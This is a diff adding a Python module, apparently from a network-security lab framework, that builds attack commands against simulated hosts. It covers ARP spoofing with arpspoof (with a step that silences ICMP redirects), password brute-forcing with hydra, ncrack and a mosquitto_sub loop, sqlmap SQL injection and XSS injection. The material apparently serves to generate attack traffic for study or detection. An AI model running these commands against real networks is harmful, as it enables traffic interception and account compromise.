@@ -1,0 +1,195 @@
+"""ARP spoofing, password guessing, SQL and script injection."""
+
+from __future__ import annotations
+
+from wirespeak.lab.attacks.guess import words as guesses
+from wirespeak.lab.attacks.tool import Strike, own, tool
+
+
+@tool("spoof.arp", reach="mac")
+def own_arp_spoof(
+    s: Strike, *, interval: float = 1.0, both: bool = True, request: bool = False, gratuitous: bool = False
+) -> list[str]:
+    """Tell the target (and with `both` the gateway) that the other is here; relay what arrives."""
+    gateway = s.world.host("gateway")
+    return own(
+        "packets",
+        "arp_spoof",
+        mac=s.attacker.mac,
+        one=[s.target.address, s.target.mac],
+        other=[gateway.address, gateway.mac],
+        interval=max(0.2, interval),
+        both=both,
+        request=request,
+        gratuitous=gratuitous,
+        seconds=s.seconds,
+    )
+
+
+@tool("spoof.arp", package="dsniff", reach="mac")
+def arpspoof(s: Strike, *, both: bool = True) -> list[str]:
+    """dsniff's arpspoof, with the kernel as relay, which is told not to give the game away by redirects."""
+    settings = "/proc/sys/net/ipv4"
+    quiet = f"echo 1 >{settings}/ip_forward; for i in all eth0; do echo 0 >{settings}/conf/$i/send_redirects; done"
+    return [
+        "sh",
+        "-c",
+        f"{quiet}; exec timeout -s INT {int(s.seconds)} arpspoof -i eth0 -t {s.address} {'-r ' if both else ''}{s.world.host('gateway').address} 2>/dev/null",
+    ]
+
+
+@tool("brute_force")
+def own_mqtt_guess(
+    s: Strike, *, rate: float = 8.0, workers: int = 4, port: int = 1883, users: int = 1
+) -> list[str]:
+    """Password after password at the broker."""
+    return own(
+        "guess",
+        "mqtt_guess",
+        target=s.address,
+        port=port,
+        rate=min(rate, 200),
+        workers=workers,
+        users=users,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("brute_force")
+def own_http_guess(
+    s: Strike, *, rate: float = 8.0, workers: int = 4, form: bool = True, keep: bool = False, port: int = 80
+) -> list[str]:
+    """Password after password at the login form, or with form = false by basic authentication."""
+    return own(
+        "guess",
+        "http_guess",
+        target=s.address,
+        port=port,
+        rate=min(rate, 200),
+        workers=workers,
+        form=form,
+        keep=keep,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("brute_force")
+def own_telnet_guess(s: Strike, *, rate: float = 4.0, workers: int = 3, port: int = 23) -> list[str]:
+    """Password after password at a telnet prompt."""
+    return own(
+        "guess",
+        "telnet_guess",
+        target=s.address,
+        port=port,
+        rate=min(rate, 100),
+        workers=workers,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("brute_force", package="hydra")
+def hydra(s: Strike, *, form: bool = False, tasks: int = 4, words: int = 150) -> list[str]:
+    """hydra on the login form or on basic authentication."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    where = (
+        ["http-post-form", "/login:user=^USER^&password=^PASS^:wrong name"]
+        if form
+        else ["http-get", "/admin"]
+    )
+    return ["hydra", "-q", "-I", "-l", "admin", "-P", listed, "-t", str(tasks), s.address, *where]
+
+
+@tool("brute_force", package="ncrack")
+def ncrack(s: Strike, *, service: str = "http", words: int = 120, connections: int = 6) -> list[str]:
+    """ncrack on HTTP basic authentication or on MQTT."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    target = f"http://{s.address}:80,path=/admin" if service == "http" else f"mqtt://{s.address}:1883"
+    return ["ncrack", "--user", "admin", "-P", listed, "-g", f"CL={connections},to={int(s.seconds)}s", target]
+
+
+@tool("brute_force", package="mosquitto-clients")
+def mosquitto_sub_guess(s: Strike, *, words: int = 200, pause: float = 0.05) -> list[str]:
+    """A loop of mosquitto_sub over a word list."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do mosquitto_sub -h {s.address} -u admin -P \"$w\" -t '#' -C 1 -W 1 >/dev/null 2>&1; sleep {pause}; done <{listed}",
+    ]
+
+
+@tool("web.sqli")
+def own_sqli(
+    s: Strike,
+    *,
+    rate: float = 4.0,
+    families: str = "tautology union error",
+    encodings: str = "percent plus",
+    post: bool = False,
+    keep: bool = False,
+) -> list[str]:
+    """Statements in parameters: families and encodings of `inject.py`."""
+    return own(
+        "inject",
+        "attack",
+        target=s.address,
+        kind="sqli",
+        families=families.split(),
+        encodings=encodings.split(),
+        rate=min(rate, 50),
+        post=post,
+        keep=keep,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("web.sqli", package="sqlmap")
+def sqlmap(s: Strike, *, level: int = 1, post: bool = False) -> list[str]:
+    """sqlmap on the item page."""
+    where = (
+        ["-u", f"http://{s.address}/item", "--data", "id=1"]
+        if post
+        else ["-u", f"http://{s.address}/item?id=1"]
+    )
+    return [
+        "sqlmap",
+        *where,
+        "--batch",
+        f"--level={level}",
+        "--risk=1",
+        "--threads=1",
+        "--technique=BEU",
+        "--flush-session",
+        "--disable-coloring",
+        f"--output-dir={s.world.folder}/sqlmap",
+    ]
+
+
+@tool("web.xss")
+def own_xss(
+    s: Strike,
+    *,
+    rate: float = 4.0,
+    families: str = "tag event",
+    encodings: str = "percent plus",
+    post: bool = False,
+    keep: bool = False,
+) -> list[str]:
+    """Scripts in parameters and comments: families and encodings of `inject.py`."""
+    return own(
+        "inject",
+        "attack",
+        target=s.address,
+        kind="xss",
+        families=families.split(),
+        encodings=encodings.split(),
+        rate=min(rate, 50),
+        post=post,
+        keep=keep,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
